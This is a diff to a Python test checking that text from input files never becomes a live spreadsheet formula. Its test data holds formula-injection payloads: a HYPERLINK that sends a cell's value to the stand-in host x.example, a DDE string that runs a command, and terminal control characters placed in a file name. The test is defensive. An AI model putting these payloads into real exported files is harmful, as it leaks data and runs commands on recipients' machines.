@@ -241,7 +241,9 @@ def test_text_from_files_is_never_a_formula(tmp_path: Path) -> None:
     payloads = {
         "nama": '=HYPERLINK("http://x.example/?d="&B2,"Klik")',
         "provinsi": "=cmd|' /C calc'!A0",
-        "penjelasan": "@SUM(1+1)\x1b[2J\x0b\x00",
+        # Control characters in a file's text are refused by validation since issue 13
+        # (SPBE112); a file's name still brings them, below.
+        "penjelasan": "@SUM(1+1)",
         "bukti": ["=1+2", "#N/A", "+62 812"],
     }
     data = {
@@ -257,7 +259,7 @@ def test_text_from_files_is_never_a_formula(tmp_path: Path) -> None:
             for n in range(1, 21)
         },
     }
-    source = tmp_path / "=1+2.json"
+    source = tmp_path / "=1+2\x1b[2J\x0b.json"
     source.write_text(json.dumps(data), encoding="utf-8")
     (tmp_path / "b.json").write_text(json.dumps(data), encoding="utf-8")
     outputs = {
